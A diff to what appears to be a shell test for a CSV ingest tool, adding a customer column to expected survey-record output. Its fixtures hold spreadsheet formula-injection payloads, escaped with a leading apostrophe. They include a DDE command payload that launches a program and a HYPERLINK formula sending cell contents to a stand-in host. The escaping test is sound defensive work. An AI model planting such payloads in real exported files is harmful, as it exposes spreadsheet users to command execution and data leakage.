@@ -89,16 +89,16 @@ run 0 emp-ingest -q -t z.csv
 cp out ev.tsv
 # what the comments and agents became (the marks), and the rejected row
 check_file ev.csv <<EOF
-kind,ts,agent,team,id,contact,channel,queue,talk_s,hold_s,acw_s,avail_s,resolved,escalated,transferred,amount,decision_s,reversed,cost,csat,nps,qa,reviewer,confidence,esat,coach,focus,reason,comment,challenge,src
-survey,2026-03-02T15:20:11Z,'-2+3,360001,1,88231,,,,,,,,,,,,,,1,,,,,,,,late delivery,"'=HYPERLINK(""http://x""&A1,""open"")",,z.csv:2
-survey,2026-03-02T15:21:11Z,'-2+3,360001,2,88232,,,,,,,,,,,,,,1,,,,,,,,'@SUM(1),'+cmd|' /C calc'!A0,,z.csv:3
-survey,2026-03-02T15:22:11Z,'-2+3,360001,3,88233,,,,,,,,,,,,,,5,,,,,,,,,'@SUM(1),,z.csv:4
-survey,2026-03-02T15:23:11Z,'-2+3,360001,4,88234,,,,,,,,,,,,,,1,,,,,,,,courier,'-2+3,,z.csv:5
-survey,2026-03-02T15:24:11Z,ana,360001,5,88235,,,,,,,,,,,,,,1,,,,,,,,outage,'$tab=1+1,,z.csv:6
-survey,2026-03-02T15:25:11Z,ana,360001,6,88236,,,,,,,,,,,,,,1,,,,,,,,'=outage,"'$cr=2+2",,z.csv:7
-survey,2026-03-02T15:26:11Z,ana,360001,7,88237,,,,,,,,,,,,,,5,,,,,,,,,'=kept,,z.csv:8
-survey,2026-03-02T15:27:11Z,ana,360001,8,88238,,,,,,,,,,,,,,5,,,,,,,,,-0.5,,z.csv:9
-survey,2026-03-02T15:27:11Z,ana,360001,9,88239,,,,,,,,,,,,,,5,,,,,,,,,'-,,z.csv:10
+kind,ts,agent,team,id,contact,customer,channel,queue,talk_s,hold_s,acw_s,avail_s,resolved,escalated,transferred,amount,decision_s,reversed,cost,csat,nps,qa,reviewer,confidence,esat,coach,focus,reason,comment,challenge,src
+survey,2026-03-02T15:20:11Z,'-2+3,360001,1,88231,9001,,,,,,,,,,,,,,1,,,,,,,,late delivery,"'=HYPERLINK(""http://x""&A1,""open"")",,z.csv:2
+survey,2026-03-02T15:21:11Z,'-2+3,360001,2,88232,9001,,,,,,,,,,,,,,1,,,,,,,,'@SUM(1),'+cmd|' /C calc'!A0,,z.csv:3
+survey,2026-03-02T15:22:11Z,'-2+3,360001,3,88233,9001,,,,,,,,,,,,,,5,,,,,,,,,'@SUM(1),,z.csv:4
+survey,2026-03-02T15:23:11Z,'-2+3,360001,4,88234,9001,,,,,,,,,,,,,,1,,,,,,,,courier,'-2+3,,z.csv:5
+survey,2026-03-02T15:24:11Z,ana,360001,5,88235,9001,,,,,,,,,,,,,,1,,,,,,,,outage,'$tab=1+1,,z.csv:6
+survey,2026-03-02T15:25:11Z,ana,360001,6,88236,9001,,,,,,,,,,,,,,1,,,,,,,,'=outage,"'$cr=2+2",,z.csv:7
+survey,2026-03-02T15:26:11Z,ana,360001,7,88237,9001,,,,,,,,,,,,,,5,,,,,,,,,'=kept,,z.csv:8
+survey,2026-03-02T15:27:11Z,ana,360001,8,88238,9001,,,,,,,,,,,,,,5,,,,,,,,,-0.5,,z.csv:9
+survey,2026-03-02T15:27:11Z,ana,360001,9,88239,9001,,,,,,,,,,,,,,5,,,,,,,,,'-,,z.csv:10
 EOF
 check_file rej.csv <<'EOF'
 src,error,raw
